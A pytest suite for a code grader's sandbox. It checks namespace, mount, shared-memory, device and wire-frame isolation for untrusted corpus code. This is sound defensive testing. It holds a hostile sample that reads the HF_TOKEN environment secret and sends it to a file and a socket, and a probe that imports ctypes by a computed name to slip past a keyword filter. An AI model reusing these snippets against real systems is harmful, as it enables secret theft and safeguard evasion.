"""Corpus code runs only in the sandbox, and what it leaves there dies with it (issue #21).

- a task reference that writes a file, opens a socket or reads the environment at module level does
  none of these when a grade runs it (the importer's probe of it:
  tests/pipelines/importers/test_importers.py);
- a worker's SysV shared memory is gone after its grade, and the next grade cannot see it;
- /proc in a worker lists only the worker's own processes;
- a worker has a root of its own: its mount table names no hidden directory, and it sees the same
  tree as before (the system directories, the Python install, empty hidden directories), also where
  the host's root cannot be pivoted away (gVisor) or a root of its own is refused (hidden in place);
- a forged frame is refused before its claimed size is buffered.
The namespaces need root; without it these tests skip (the grade records the layers as off).
"""
from __future__ import annotations

import dataclasses
import json
import os
import socket
import struct
import threading
import tracemalloc

import pytest

from grader import wire

ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not ROOT, reason="the sandbox's namespaces and uids need root")

GELU = ("import math, torch\n"
        "def run(x):\n"
        "    return 0.5 * x * (1.0 + torch.erf(x * (1.0 / math.sqrt(2.0))))\n")


class HostListener:
    """A TCP server on the host's loopback that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.sock.settimeout(0.2)
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.sock.close()


def hostile_module_level(marker: str, port: int) -> str:
    """Module-level code of a hostile reference: leak the token into a host file and over a socket."""
    return (f"import os, socket\n"
            f"_token = os.environ.get('HF_TOKEN', '')\n"
            f"try:\n"
            f"    open({marker!r}, 'w').write('ran ' + _token)\n"
            f"except OSError:\n"
            f"    pass\n"
            f"try:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(_token.encode())\n"
            f"except OSError:\n"
            f"    pass\n")


@pytest.fixture
def listener():
    srv = HostListener()
    yield srv
    srv.close()


@needs_root
def test_confined_program_sees_only_its_own_processes_and_no_secret(monkeypatch):
    from grader.confine import run_confined

    monkeypatch.setenv("HF_TOKEN", "hf_secret_of_the_host")
    program = ("import os, sys\n"
               "pids = sorted(e for e in os.listdir('/proc') if e.isdigit())\n"
               "sys.stdout.write(repr((pids, os.getpid(), os.environ.get('HF_TOKEN'), os.getuid())))\n")
    run = run_confined(program, b"", 60)
    assert run.returncode == 0, run.stderr[-2000:]
    pids, me, token, uid = eval(run.stdout)  # noqa: S307 - our own program's repr
    assert pids == [str(me)] and me == 1, pids
    assert token is None
    assert uid != 0
    assert run.sandbox["pid_ns"] is True and run.sandbox["ipc_ns"] is True and run.sandbox["net_ns"] is True


@needs_root
def test_grade_runs_a_hostile_reference_only_in_the_sandbox(tmp_path, listener, monkeypatch):
    """A card whose reference misbehaves at module level: nothing leaves the sandbox, and the task is
    not graded on it (the reference defines no task), while the candidate is not floored as a cheat."""
    from grader.catalogue import load_catalogue
    from grader.contract import GradeRequest, Status
    from grader.service import GraderService

    monkeypatch.setenv("HF_TOKEN", "hf_secret_of_the_host")
    marker = tmp_path / "leaked"
    card = dataclasses.replace(load_catalogue()["gelu_fp32"], task_id="hostile_gelu",
                               reference=hostile_module_level(str(marker), listener.port) + GELU)
    cards = tmp_path / "cards.jsonl"
    cards.write_text(json.dumps(dataclasses.asdict(card)) + "\n")
    with GraderService(workers=1, catalogue_extra=[str(cards)]) as svc:
        r = svc.grade_one(GradeRequest(attempt_id="h", task_id="hostile_gelu", source=GELU, language="pytorch"))
    assert not marker.exists(), "the reference wrote a file on the host"
    assert listener.accepted == 0, "the reference reached a host socket"
    assert r.status is Status.INFRA_ERROR and "reference" in r.reason, (r.status, r.reason)


SHM = ("import os\n"
       "_ff = __import__('ct' + 'ypes')\n"  # by a computed name: the word itself is refused (grader 0.9.0)
       "_libc = _ff.CDLL(None, use_errno=True)\n"
       "KEY = 0x4B5421\n"
       "def _others():\n"
       "    return [e for e in os.listdir('/proc') if e.isdigit() and e != str(os.getpid())]\n")
SHM_LEAVE = SHM + (
    "shmid = _libc.shmget(KEY, 64 << 20, 0o1000 | 0o666)\n"  # IPC_CREAT
    "assert shmid >= 0, _ff.get_errno()\n"
    "_libc.shmat.restype = _ff.c_void_p\n"
    "addr = _libc.shmat(shmid, None, 0)\n"
    "_libc.shmdt(_ff.c_void_p(addr))\n"
    "if _others():\n"
    "    raise RuntimeError(f'saw other processes: {_others()}')\n") + GELU
SHM_FIND = SHM + (
    "if _libc.shmget(KEY, 0, 0) >= 0:\n"
    "    raise RuntimeError('found the segment an earlier attempt left')\n") + GELU


def _host_segment_keys() -> set[int]:
    with open("/proc/sysvipc/shm") as f:
        next(f)
        return {int(line.split()[0]) for line in f if line.strip()}


@needs_root
def test_shared_memory_dies_with_the_worker_and_proc_shows_only_its_own():
    from grader.contract import GradeRequest, Status
    from grader.service import GraderService

    key = 0x4B5421
    assert key not in _host_segment_keys()
    with GraderService(workers=1) as svc:
        first = svc.grade_one(GradeRequest(attempt_id="leave", task_id="gelu_fp32", source=SHM_LEAVE,
                                           language="pytorch"))
        assert first.status is Status.CORRECT, first.reason  # it made its segment and saw only itself
        assert first.sandbox["ipc_ns"] is True and first.sandbox["pid_ns"] is True, first.sandbox
        assert key not in _host_segment_keys(), "the segment outlived its worker on the host"
        second = svc.grade_one(GradeRequest(attempt_id="find", task_id="gelu_fp32", source=SHM_FIND,
                                            language="pytorch"))
        assert second.status is Status.CORRECT, second.reason


VIEW = """
import json, os, sys


def view():
    top = {}
    for name in sorted(os.listdir("/")):
        path = "/" + name
        if os.path.islink(path):
            top[name] = "-> " + os.readlink(path)
        elif not os.path.isdir(path):
            top[name] = "file"
        else:
            try:
                top[name] = sorted(os.listdir(path))
            except OSError:
                top[name] = "unlistable"
    tables = {}
    for table in ("/proc/self/mountinfo", "/proc/self/mounts", "/proc/thread-self/mountinfo"):
        with open(table) as f:
            tables[table] = f.read()
    return {"top": top, "tables": tables, "python": os.path.exists(sys.executable)}
"""


def _sealed_and_revealed() -> tuple[list[str], list[str]]:
    from grader import launcher

    return launcher.sealed_paths(), launcher.revealed_paths()


def _unescape(field: str) -> str:
    for code, char in (("\\040", " "), ("\\011", "\t"), ("\\012", "\n"), ("\\134", "\\")):
        field = field.replace(code, char)
    return field


def _under(path: str, top: str) -> bool:
    return path == top or path.startswith(top.rstrip("/") + "/")


def hidden_names(tables: dict[str, str], hidden: list[str], revealed: list[str]) -> list[str]:
    """Every line of the mount tables that names a hidden path: a mount point at or below one (not a
    revealed path), or a mount's source inside the checkout or the catalogue."""
    from grader import launcher

    sealed_sources = [str(launcher._REPO)] + [h for h in hidden if h.endswith("catalogue")]
    found = []
    for table, text in tables.items():
        for line in text.splitlines():
            fields = line.split()
            point = _unescape(fields[4] if table.endswith("mountinfo") else fields[1])
            sources = [_unescape(fields[3])] if table.endswith("mountinfo") else []
            named = [p for p in [point] if any(_under(p, h) for h in hidden)]
            named += [p for p in sources if any(_under(p, h) for h in sealed_sources)]
            if any(not any(_under(p, r) for r in revealed) for p in named):
                found.append(f"{table}: {line}")
    return found


def assert_same_tree(seen: dict, hidden: list[str], revealed: list[str]) -> None:
    """The worker's / lists what the host's does; a visible directory lists as on the host, a hidden one
    holds nothing but the way to a revealed path."""
    host = {name: os.path.join("/", name) for name in os.listdir("/")}
    assert sorted(seen["top"]) == sorted(host), (sorted(seen["top"]), sorted(host))
    for name, path in host.items():
        got = seen["top"][name]
        if os.path.islink(path):
            assert got == "-> " + os.readlink(path), name
        elif not os.path.isdir(path):
            assert got == "file", name
        elif path in hidden:
            ways = {r[len(path) + 1:].split("/")[0] for r in revealed if r.startswith(path + "/")}
            assert got in ([], sorted(ways)), (name, got)
        elif name not in ("tmp", "proc") and got != "unlistable":
            assert got == sorted(os.listdir(path)), name
    assert seen["python"], "the interpreter is not at its path in the worker"


@needs_root
def test_confined_program_has_a_root_of_its_own_whose_mount_table_names_no_hidden_path():
    from grader.confine import run_confined

    hidden, revealed = _sealed_and_revealed()
    run = run_confined(VIEW + "sys.stdout.write(json.dumps(view()))\n", b"", 60)
    assert run.returncode == 0, run.stderr[-2000:]
    assert run.sandbox["own_root"] is True and run.sandbox["old_root"] == "detached", run.sandbox
    # a path there before the run and still there after it was there during it: another test of the suite may plant
    # a directory at the file system root (test_grader_service's probe) and remove it while this one runs
    during = set(hidden) & set(_sealed_and_revealed()[0])
    assert set(run.sandbox["hidden_paths"]) >= {h for h in during if not h.startswith("/tmp/")}
    seen = json.loads(run.stdout)
    assert not hidden_names(seen["tables"], hidden, revealed)
    assert_same_tree(seen, hidden, revealed)


@needs_root
@pytest.mark.parametrize("mode", ["zygote", "fresh"])
def test_grade_records_the_own_root_and_the_candidate_finds_no_hidden_path(mode):
    """A candidate that fails its grade if the mount tables name a hidden path, in both worker modes."""
    from grader.contract import GradeRequest, Status
    from grader.service import GraderService

    hidden, revealed = _sealed_and_revealed()
    probe = (f"HIDDEN, REVEALED = {hidden!r}, {revealed!r}\n"
             "def _under(p, top):\n    return p == top or p.startswith(top.rstrip('/') + '/')\n"
             "for _table, _col in (('/proc/self/mountinfo', 4), ('/proc/self/mounts', 1)):\n"
             "    for _line in open(_table):\n"
             "        _p = _line.split()[_col]\n"
             "        if any(_under(_p, h) for h in HIDDEN) and not any(_under(_p, r) for r in REVEALED):\n"
             "            raise RuntimeError(f'{_table} names {_p}')\n") + GELU
    with GraderService(mode=mode, workers=1) as svc:
        r = svc.grade_one(GradeRequest(attempt_id=f"mountinfo-{mode}", task_id="gelu_fp32", source=probe,
                                       language="pytorch"))
    assert r.status is Status.CORRECT, r.reason
    assert r.sandbox["own_root"] is True and r.sandbox["private_proc"] is True, r.sandbox
    assert any(p.endswith("catalogue") for p in r.sandbox["hidden_paths"]), r.sandbox


def _enter_in_a_child(change=None, hide: list[str] = (), reveal: list[str] = (), look: list[str] = ()) -> dict:
    """Fork; in the child, apply `change` to the sandbox module, enter the sandbox (no PID namespace, so
    the host's /proc is bound) hiding the launcher's paths and `hide`, and send back its layers, VIEW's
    view() and the listing of each path in `look`."""
    from grader import sandbox

    hidden, revealed = _sealed_and_revealed()
    code = compile(VIEW, "<view>", "exec")
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child reports through the pipe and never returns
        try:
            os.close(r)
            if change:
                change(sandbox)
            layers = sandbox.enter(hide=hidden + list(hide), reveal=revealed + list(reveal), tmp_mb=16, uid=None,
                                   nproc=64, nofile=256, fsize_mb=16, address_space_mb=None)
            ns: dict = {}
            exec(code, ns)  # noqa: S102 - the test's own text
            listed = {p: sorted(os.listdir(p)) if os.path.isdir(p) else None for p in look}
            out = {"layers": layers, "look": listed, **ns["view"]()}
        except BaseException as e:  # noqa: BLE001 - reported to the test
            out = {"error": repr(e)}
        os.write(w, json.dumps(out).encode())
        os._exit(0)
    os.close(w)
    with os.fdopen(r, "rb") as f:
        data = f.read()
    os.waitpid(pid, 0)
    out = json.loads(data)
    assert "error" not in out, out["error"]
    return out


def refuse_pivots(n: int):
    """A change to the sandbox module: its first `n` pivots fail with EINVAL, as gVisor refuses a pivot
    from its root mount, which has no parent."""
    import errno

    def change(sandbox):
        real, calls = sandbox._pivot_into, []

        def pivot_into(new):
            calls.append(new)
            if len(calls) <= n:
                raise OSError(errno.EINVAL, "refused, as gVisor refuses a pivot from its root mount")
            real(new)
        sandbox._pivot_into = pivot_into
    return change


@needs_root
def test_a_host_whose_root_cannot_be_pivoted_gets_the_own_root_through_a_stage():
    """The new root is pivoted into from the stage it was built in, and the mount table still names no
    hidden path."""
    hidden, revealed = _sealed_and_revealed()
    seen = _enter_in_a_child(refuse_pivots(1))
    assert seen["layers"]["own_root"] is True, seen["layers"]
    assert seen["layers"]["old_root"].startswith("the unreachable parent"), seen["layers"]
    assert not hidden_names(seen["tables"], hidden, revealed)
    assert_same_tree(seen, hidden, revealed)


@pytest.mark.parametrize("change", [refuse_pivots(2), lambda sandbox: setattr(sandbox, "SYS_PIVOT_ROOT", None)],
                         ids=["stage_refused_too", "no_pivot_root"])
@needs_root
def test_a_host_that_refuses_a_root_of_its_own_still_hides_in_place(change):
    """Back from the stage's chroot where it got that far, the hidden directories are covered in place:
    the same tree, with the covers named in the mount table (what own_root removes)."""
    hidden, revealed = _sealed_and_revealed()
    seen = _enter_in_a_child(change)
    assert str(seen["layers"]["own_root"]).startswith("off: "), seen["layers"]
    assert set(seen["layers"]["hidden_paths"]) == set(hidden), seen["layers"]
    assert_same_tree(seen, hidden, revealed)
    assert hidden_names(seen["tables"], hidden, revealed), "hiding in place names its covers"


def refuse_proc_past_the_pivot(sandbox):
    """A change to the sandbox module: /proc cannot be mounted in the new root (a step past the pivot,
    from which a worker has no way back), and the zygote's probe has found so before any worker."""
    import errno
    import functools

    def refuse(path):
        raise OSError(errno.EPERM, "refused, as a host might refuse a /proc past the pivot")
    sandbox._mount_proc = refuse
    hidden, revealed = _sealed_and_revealed()
    sandbox.enter = functools.partial(sandbox.enter, own_root_off=sandbox.probe_own_root(hidden, revealed, 16))


@needs_root
def test_the_probe_finds_a_host_that_refuses_a_step_past_the_pivot_and_workers_hide_in_place():
    """Without the probe such a host would stop every worker from starting (every grade infra_error);
    with it, workers hide in place and every grade records why it has no root of its own."""
    from grader import sandbox

    hidden, revealed = _sealed_and_revealed()
    assert sandbox.probe_own_root(hidden, revealed, 16) == ""  # this host allows every step
    seen = _enter_in_a_child(refuse_proc_past_the_pivot)
    assert seen["layers"]["own_root"].startswith("off: a probe could not build a root of its own"), seen["layers"]
    assert "/proc past the pivot" in seen["layers"]["own_root"]
    assert set(seen["layers"]["hidden_paths"]) == set(hidden), seen["layers"]
    assert_same_tree(seen, hidden, revealed)


@needs_root
def test_a_hidden_directory_inside_a_visible_one_is_left_out_not_covered():
    """A hidden path below a system directory: its parents are copied entry by entry, so the worker sees
    them as before, the hidden directory empty but for its revealed path, and no mount point names it."""
    import shutil
    import uuid

    planted = f"/usr/local/kt-probe-{uuid.uuid4().hex[:8]}"
    try:
        os.makedirs(f"{planted}/open")
        os.makedirs(f"{planted}/secret")
        with open(f"{planted}/open/kept.txt", "w") as f:
            f.write("revealed")
    except OSError as e:
        pytest.skip(f"cannot plant a directory under /usr/local here: {e}")
    try:
        hidden, revealed = _sealed_and_revealed()
        seen = _enter_in_a_child(hide=[planted], reveal=[f"{planted}/open"],
                                 look=["/usr", "/usr/local", planted, f"{planted}/open", f"{planted}/secret"])
        assert seen["layers"]["own_root"] is True and planted in seen["layers"]["hidden_paths"], seen["layers"]
        assert seen["look"]["/usr"] == sorted(os.listdir("/usr"))
        assert seen["look"]["/usr/local"] == sorted(os.listdir("/usr/local"))
        assert seen["look"][planted] == ["open"] and seen["look"][f"{planted}/open"] == ["kept.txt"]
        assert seen["look"][f"{planted}/secret"] is None
        assert not hidden_names(seen["tables"], hidden + [planted], revealed + [f"{planted}/open"])
        assert_same_tree(seen, hidden, revealed)
    finally:
        shutil.rmtree(planted)


def test_a_forged_frame_size_is_refused_before_anything_is_buffered():
    a, b = socket.socketpair()
    try:
        a.sendall(struct.pack("!IQ", 2, 4 << 30) + b"{}")
        tracemalloc.start()
        with pytest.raises(wire.FrameError, match="too large"):
            wire.recv(b, max_payload=0)  # a call's reply carries no payload
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 1 << 20, peak
        cap = wire.REPLY_PAYLOAD_CAP["load"]
        a.sendall(struct.pack("!IQ", 2, cap + 1) + b"{}")
        with pytest.raises(wire.FrameError):
            wire.recv(b, max_payload=cap)
    finally:
        a.close()
        b.close()


def test_a_payload_is_read_into_one_buffer():
    a, b = socket.socketpair()
    try:
        wire.send(a, {"op": "load"}, b"x" * 1000)
        header, payload = wire.recv(b, max_payload=wire.REPLY_PAYLOAD_CAP["load"])
        assert header == {"op": "load"} and payload == b"x" * 1000
        assert isinstance(payload, bytearray)  # the buffer it was received into, not a copy of it
    finally:
        a.close()
        b.close()


def test_a_confined_program_that_floods_its_output_is_killed_at_the_cap_and_one_that_reads_nothing_blocks_no_one():
    """Corpus code must not fill the parent's memory through its stdout (grader.buildahead reads a builder's report
    there), nor hang it by never reading a large stdin."""
    from grader.confine import run_confined

    flood = run_confined("import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n", b"", 60, output_cap=1 << 20)
    assert flood.overflowed and not flood.timed_out and len(flood.stdout) <= 1 << 20
    deaf = run_confined("import time\ntime.sleep(60)\n", b"y" * (4 << 20), 3)
    assert deaf.timed_out and not deaf.overflowed
    fine = run_confined("import os, sys\nsys.stdout.write(f\"{len(sys.stdin.buffer.read())} {os.environ['KT_X']}\")\n",
                        b"z" * (4 << 20), 60, env_extra={"KT_X": "9.0+PTX"})
    assert fine.stdout == f"{4 << 20} 9.0+PTX".encode() and not fine.overflowed and fine.returncode == 0


def test_a_nice_confined_program_and_what_it_starts_yield_the_cores():
    """`run_confined(nice=...)` (the builders ahead with the service's `nice_builds`): the program, and a compiler
    it starts, run at the parent's niceness plus `nice`; without it, at the parent's."""
    import os

    from grader.buildahead import BUILD_NICENESS
    from grader.confine import run_confined

    program = ("import os, subprocess, sys\n"
               "child = subprocess.run([sys.executable, '-c', 'import os; print(os.nice(0))'], capture_output=True)\n"
               "sys.stdout.write(f'{os.nice(0)} {child.stdout.decode().strip()}')\n")
    base = os.nice(0)
    nice = run_confined(program, b"", 60, nice=BUILD_NICENESS)
    assert nice.stdout.decode() == f"{base + BUILD_NICENESS} {base + BUILD_NICENESS}", nice.stderr[-500:]
    plain = run_confined(program, b"", 60)
    assert plain.stdout.decode() == f"{base} {base}", plain.stderr[-500:]


def test_the_builders_pass_their_niceness_to_every_build(monkeypatch):
    """`Builders(nice=...)` hands it to each confined build (`buildahead.build`, replaced here by a recorder:
    what is tested is the pool's wiring, the niceness itself in the test above)."""
    import threading

    from grader import buildahead

    seen, done = [], threading.Event()

    def record(source, cache, env, timeout_s, **kw):
        seen.append((source, kw["nice"]))
        return {"outcome": "recorded"}

    monkeypatch.setattr(buildahead, "build", record)
    pool = buildahead.Builders(1, None, None, lambda key, rec: done.set(), nice=buildahead.BUILD_NICENESS)
    pool.submit("key", "source", 5.0)
    assert done.wait(10)
    pool.close()
    assert seen == [("source", buildahead.BUILD_NICENESS)]


@needs_root
def test_a_confined_child_reaches_no_device_node_it_covers_and_the_hosts_stays_as_it_was():
    """grader.confine covers the host's GPU device nodes (`gpu_nodes`) with /dev/null in its child's sandbox, so
    import-time corpus code that sets CUDA_VISIBLE_DEVICES again still opens no device. /dev/full stands in for a
    GPU's node here (CI has none): in the child it is /dev/null, on the host it is itself."""
    from grader.confine import gpu_nodes, run_confined

    program = ("import os, sys\nst = os.stat('/dev/full')\n"
               "sys.stdout.write(repr((os.major(st.st_rdev), os.minor(st.st_rdev))))\n")
    run = run_confined(program, b"", 60, cover=["/dev/full", "/dev/no_such_node"])
    assert run.returncode == 0, run.stderr[-2000:]
    null, full = os.stat("/dev/null").st_rdev, os.stat("/dev/full").st_rdev
    assert eval(run.stdout) == (os.major(null), os.minor(null))  # noqa: S307 - our own program's repr
    assert run.sandbox["covered_devices"] == ["/dev/full"] and full != null
    assert gpu_nodes(("/dev/nul*", "/tmp")) == ["/dev/null"]  # character devices only


@pytest.mark.gpu
@needs_root
def test_on_a_gpu_host_a_confined_child_cannot_reach_the_device_even_asking_for_it():
    """The builders' and the importer's probes' children (grader.confine) on a GPU host: with the GPU's nodes covered,
    a program that names the device again and initialises the driver gets an error, not a context."""
    import torch

    if not torch.cuda.is_available():
        pytest.skip("needs a CUDA device")
    from grader.confine import gpu_nodes, run_confined

    assert gpu_nodes(), "a CUDA device with no /dev/nvidia* node"
    program = ("import ctypes, os, sys\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
               "sys.stdout.write(str(ctypes.CDLL('libcuda.so.1').cuInit(0)))\n")
    run = run_confined(program, b"", 60)
    assert run.returncode == 0, run.stderr[-2000:]
    assert int(run.stdout) != 0 and all(not str(n).startswith("off") for n in run.sandbox["covered_devices"]), run
